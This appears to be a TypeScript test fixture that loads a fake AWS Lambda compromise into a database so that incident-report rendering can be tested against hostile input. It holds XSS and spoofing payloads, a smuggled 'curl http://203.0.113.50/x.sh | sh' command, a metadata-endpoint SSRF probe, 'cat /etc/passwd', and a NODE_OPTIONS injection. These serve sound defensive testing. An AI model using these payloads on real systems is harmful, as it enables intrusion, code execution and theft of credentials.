/**
 * A small incident, built row by row, for the report tests: orders-api is compromised on
 * 2026-03-11 (a code change by a new actor from a new IP, an invocation spike 08:00-10:00, new API
 * calls with its credentials from outside Lambda, a new external peer), and every value an
 * attacker controls carries a payload: user agents, log lines, request parameters, file paths,
 * import messages, and the names of two more functions.
 */
import type { Db } from '../../src/db/connection.ts';
import type { AuditProvider } from '../../src/report/model.ts';
import { ctRow, fnConfig, insertRows, sessionRow } from '../helpers/rows.ts';

export const INCIDENT_START = '2026-03-11T00:00:00Z';

/** Payloads that execute or exfiltrate if any context is escaped wrongly. Each one that runs sets
 * window.__pwned or opens a dialog; the ones with URLs would make a request. */
export const PAYLOADS = {
  script: '<script>window.__pwned=1;alert(1)</script>',
  img: '"><img src=x onerror="window.__pwned=2;alert(2)">',
  closeScript: '</script><script>window.__pwned=3</script>',
  jsUrl: 'javascript:alert(3)',
  attrBreak: "' onmouseover='window.__pwned=4' x='",
  svg: '<svg onload="window.__pwned=5"></svg>',
  comment: '<!--<script>window.__pwned=6</script>-->',
  styleUrl: '<style>@import url(https://attacker.example/x.css);</style><link rel=stylesheet href=https://attacker.example/y.css>',
  bidi: 'invoice\u202Efdp.exe',
  zeroWidth: 'adm\u200Bin\u2060\uFEFF',
  lineSep: 'a\u2028b\u2029c',
} as const;

/** Function names an attacker could make appear (through log group names, session names). */
export const HOSTILE_FN = `pwn${PAYLOADS.img}`;
export const BIDI_FN = `billing-${PAYLOADS.bidi}`;

const ROLE = 'orders-role';
const MALLORY = 'arn:aws:iam::111122223333:user/dev-mallory';
const HOSTILE_UA = `aws-cli/2.15.0 ${PAYLOADS.script} ${PAYLOADS.closeScript} ${PAYLOADS.jsUrl}`;

function hour(fn: string, day: number, h: number, n: number) {
  return Array.from({ length: n }, (_, i) => ({
    function_name: fn,
    request_id: `${fn}-${day}-${h}-${i}`,
    start_time: new Date(Date.UTC(2026, 2, day, h, Math.floor((i * 60) / n), i % 60)).toISOString(),
    status: 'success',
  }));
}

function eni(snapshot: string, id: string, ip: string, o: Record<string, unknown>) {
  return { snapshot_time: snapshot, snapshot_time_source: 'file-name', eni_id: id, private_ip: ip, private_ips: [ip], vpc_id: 'vpc-1', source_file: 'enis.json', file_id: 3, status: 'in-use', ...o };
}

function flow(eniId: string, t: string, src: string, sport: number, dst: string, dport: number, o: Record<string, unknown> = {}) {
  const start = new Date(t).getTime();
  return {
    version: 2, account_id: '111122223333', interface_id: eniId, srcaddr: src, dstaddr: dst, srcport: sport, dstport: dport, protocol: 6,
    packets: 10, bytes: 1000, start_time: new Date(start).toISOString(), end_time: new Date(start + 60_000).toISOString(),
    action: 'ACCEPT', log_status: 'OK', file_id: 4, ...o,
  };
}

/** Loads the incident into an empty database (schema created). */
export async function loadIncident(db: Db): Promise<void> {
  await insertRows(db, 'lambda_functions', [
    fnConfig('orders-api', ROLE, { vpc_id: 'vpc-1', subnet_ids: ['subnet-a'], security_group_ids: ['sg-orders'], handler: 'index.handler', description: PAYLOADS.svg }),
    fnConfig(HOSTILE_FN, 'pwn-role', { description: PAYLOADS.styleUrl }),
  ]);

  // invocations: ~20-40 an hour for three days, a spike on the 11th 08:00-10:00
  const inv: Array<Record<string, unknown>> = [];
  for (const day of [8, 9, 10, 11]) for (let h = 0; h < 24; h++) inv.push(...hour('orders-api', day, h, 20 + (h % 5) * 5));
  inv.push(...hour('orders-api', 11, 8, 300), ...hour('orders-api', 11, 9, 260));
  for (const day of [9, 10, 11]) for (let h = 0; h < 24; h += 6) inv.push(...hour(HOSTILE_FN, day, h, 2));
  await insertRows(db, 'lambda_invocations', inv);

  // log lines, among them injection attempts that print payloads
  await insertRows(db, 'lambda_log_events', [
    { function_name: 'orders-api', log_group: '/aws/lambda/orders-api', log_stream: '2026/03/11/[$LATEST]abc', time: '2026-03-11T08:04:00Z', message: `{"sku":"1; curl http://203.0.113.50/x.sh | sh","note":"${PAYLOADS.script.replace(/"/g, '\\"')}"}`, request_id: 'req-1', kind: 'app', source_file: 'logs.json', file_id: 2, record_index: 1 },
    { function_name: 'orders-api', log_group: '/aws/lambda/orders-api', log_stream: '2026/03/11/[$LATEST]abc', time: '2026-03-11T08:05:00Z', message: `GET /?u=http://169.254.169.254/latest/meta-data/ ${PAYLOADS.img} ${PAYLOADS.closeScript}`, request_id: 'req-2', kind: 'app', source_file: 'logs.json', file_id: 2, record_index: 2 },
    { function_name: HOSTILE_FN, log_group: `/aws/lambda/${HOSTILE_FN}`, log_stream: 's', time: '2026-03-11T09:00:00Z', message: `${PAYLOADS.comment} ${PAYLOADS.bidi} ${PAYLOADS.zeroWidth} ${PAYLOADS.lineSep} <script>alert(1)</script>`, request_id: 'req-3', kind: 'app', source_file: 'logs.json', file_id: 2, record_index: 3 },
    { function_name: BIDI_FN, log_group: `/aws/lambda/${BIDI_FN}`, log_stream: 's', time: '2026-03-11T09:10:00Z', message: `cat /etc/passwd ${PAYLOADS.attrBreak}`, request_id: 'req-4', kind: 'app', source_file: 'logs.json', file_id: 2, record_index: 4 },
  ]);

  // CloudTrail: the role's baseline calls, the incident's new calls (some from outside Lambda),
  // and the code change by a new actor from a new IP
  const ct: Array<Record<string, unknown>> = [];
  for (const day of [8, 9, 10]) {
    for (let h = 0; h < 24; h += 2) {
      const t = new Date(Date.UTC(2026, 2, day, h, 7)).toISOString();
      ct.push(sessionRow('orders-api', ROLE, t, 'dynamodb.amazonaws.com', 'GetItem'));
      ct.push(sessionRow('orders-api', ROLE, t, 'dynamodb.amazonaws.com', 'PutItem'));
    }
  }
  ct.push(
    ctRow({ event_time: '2026-03-09T10:00:00Z', event_source: 'lambda.amazonaws.com', event_name: 'UpdateFunctionCode20150331v2', api_name: 'UpdateFunctionCode', identity_type: 'AssumedRole', principal_arn: 'arn:aws:sts::111122223333:assumed-role/ci-deploy/run-1', session_issuer_arn: 'arn:aws:iam::111122223333:role/ci-deploy', session_name: 'run-1', source_ip: '52.1.1.1', user_agent: 'aws-sdk-go/1.0', read_only: false, request_parameters: { functionName: 'orders-api' } }),
    ctRow({ event_time: '2026-03-11T07:55:00Z', event_source: 'lambda.amazonaws.com', event_name: 'UpdateFunctionCode20150331v2', api_name: 'UpdateFunctionCode', identity_type: 'IAMUser', principal_arn: MALLORY, user_name: 'dev-mallory', source_ip: '198.51.100.23', user_agent: HOSTILE_UA, read_only: false, request_parameters: { functionName: 'orders-api', note: PAYLOADS.closeScript } }),
    ctRow({ event_time: '2026-03-11T07:58:00Z', event_source: 'lambda.amazonaws.com', event_name: 'UpdateFunctionConfiguration20150331v2', api_name: 'UpdateFunctionConfiguration', identity_type: 'IAMUser', principal_arn: MALLORY, user_name: 'dev-mallory', source_ip: '198.51.100.23', user_agent: PAYLOADS.img, read_only: false, request_parameters: { functionName: 'orders-api', environment: { variables: { NODE_OPTIONS: `--require /tmp/${PAYLOADS.script}` } } } }),
    sessionRow('orders-api', ROLE, '2026-03-11T08:12:00Z', 'secretsmanager.amazonaws.com', 'GetSecretValue'),
    sessionRow('orders-api', ROLE, '2026-03-11T08:13:00Z', 's3.amazonaws.com', 'ListBuckets'),
    sessionRow('orders-api', ROLE, '2026-03-11T08:40:00Z', 'sts.amazonaws.com', 'GetCallerIdentity', { source_ip: '198.51.100.77', user_agent: `${PAYLOADS.img} ${PAYLOADS.jsUrl}` }),
    sessionRow('orders-api', ROLE, '2026-03-11T08:41:00Z', 'dynamodb.amazonaws.com', 'GetItem'),
    sessionRow(HOSTILE_FN, 'pwn-role', '2026-03-11T09:30:00Z', 'iam.amazonaws.com', 'ListUsers', { user_agent: PAYLOADS.svg }),
  );
  await insertRows(db, 'cloudtrail_events', ct);

  // network: the function's ENI, an RDS instance and a NAT gateway; a new external peer
  const snaps = ['2026-03-08T00:00:00Z', '2026-03-10T00:00:00Z', '2026-03-11T12:00:00Z'];
  const lambdaEni = { interface_type: 'lambda', description: 'AWS Lambda VPC ENI-orders-api-1b2c3d4e-aaaa-bbbb-cccc-123456789012', subnet_id: 'subnet-a', security_group_ids: ['sg-orders'], requester_managed: true };
  const rds = { interface_type: 'interface', description: 'RDSNetworkInterface', subnet_id: 'subnet-db', security_group_ids: ['sg-db'], requester_id: 'amazon-rds', requester_managed: true };
  await insertRows(db, 'network_interfaces', [
    ...snaps.map((t) => eni(t, 'eni-orders', '10.0.1.10', lambdaEni)),
    ...snaps.map((t) => eni(t, 'eni-rds', '10.0.3.5', rds)),
    ...snaps.map((t) => eni(t, 'eni-nat', '10.0.0.5', { interface_type: 'nat_gateway', description: 'Interface for NAT Gateway nat-0abc', subnet_id: 'subnet-pub', security_group_ids: [], public_ip: '52.51.0.10' })),
  ]);
  const flows: Array<Record<string, unknown>> = [];
  for (const day of [8, 9, 10, 11]) {
    for (let h = 0; h < 24; h += 3) {
      const t = new Date(Date.UTC(2026, 2, day, h, 1)).toISOString();
      flows.push(flow('eni-orders', t, '10.0.1.10', 40000 + h, '10.0.3.5', 5432));
    }
  }
  flows.push(flow('eni-orders', '2026-03-11T08:31:00Z', '10.0.1.10', 41002, '203.0.113.50', 4444, { bytes: 5_000_000 }));
  flows.push(flow('eni-orders', '2026-03-11T08:31:00Z', '203.0.113.50', 4444, '10.0.1.10', 41002, { bytes: 700 }));
  await insertRows(db, 'flow_custom_records', flows);

  // metrics for a few hours (a timed source with gaps)
  await insertRows(db, 'lambda_metrics', [
    { function_name: 'orders-api', metric: 'Errors', time: '2026-03-10T00:00:00Z', value: 0, stat: 'Sum', source_file: 'm.json', file_id: 5 },
    { function_name: 'orders-api', metric: 'Errors', time: '2026-03-11T08:00:00Z', value: 3, stat: 'Sum', source_file: 'm.json', file_id: 5 },
  ]);

  // the import ledger and issues: paths and messages are attacker-controlled too
  const now = '2026-03-12T00:00:00Z';
  await insertRows(db, 'import_files', [
    { file_id: 1, path: 'ct/2026/03/11/trail.json.gz', size_bytes: 100, sha256: 'a', format: 'cloudtrail-records', source: 'cloudtrail', status: 'loaded', rows_loaded: ct.length, imported_at: now },
    { file_id: 2, path: 'logs/orders.json', size_bytes: 100, sha256: 'b', format: 'cwl-filter-log-events', source: 'lambda-logs', status: 'loaded', rows_loaded: 4, rows_rejected: 1, issues: 1, imported_at: now },
    { file_id: 9, path: `evil/${PAYLOADS.img}.json`, size_bytes: 100, sha256: 'c', format: null, source: null, status: 'failed', reason: `load-failed: ${PAYLOADS.script}`, imported_at: now },
  ]);
  await insertRows(db, 'import_issues', [
    { file_id: 2, path: 'logs/orders.json', location: 'line 7', severity: 'warning', code: 'bad-json-line', message: `line is not JSON: ${PAYLOADS.closeScript}`, created_at: now },
    { file_id: 9, path: `evil/${PAYLOADS.img}.json`, location: null, severity: 'error', code: 'load-failed', message: `${PAYLOADS.styleUrl} ${PAYLOADS.bidi}`, created_at: now },
  ]);
}

/** An audit with hostile principals and policies, standing in for an IAM dump. */
export const HOSTILE_AUDIT: AuditProvider = {
  rows: async (_db, opts) =>
    [
      { check: 'can-modify', function: 'orders-api', principal: MALLORY, severity: 'high' as const, title: `${MALLORY} can modify orders-api: lambda:UpdateFunctionCode`, policy: `inline ${PAYLOADS.img}` },
      { check: 'public-url', function: 'orders-api', principal: '*', severity: 'high' as const, title: `orders-api has a public function URL (AuthType NONE): ${PAYLOADS.jsUrl}`, policy: null },
      { check: 'broad-role', function: 'orders-api', principal: `arn:aws:iam::111122223333:role/${ROLE}`, severity: 'medium' as const, title: `execution role allows s3:* on * ${PAYLOADS.script}`, policy: PAYLOADS.closeScript },
    ].filter((r) => !opts.function || r.function === opts.function),
  findings: async () => [
    { analyzer: 'audit:public-url', severity: 'high', function: 'orders-api', time: null, title: `orders-api has a public function URL (AuthType NONE): ${PAYLOADS.jsUrl}`, evidence: { check: 'public-url', url: PAYLOADS.jsUrl, principal: PAYLOADS.attrBreak } },
  ],
};
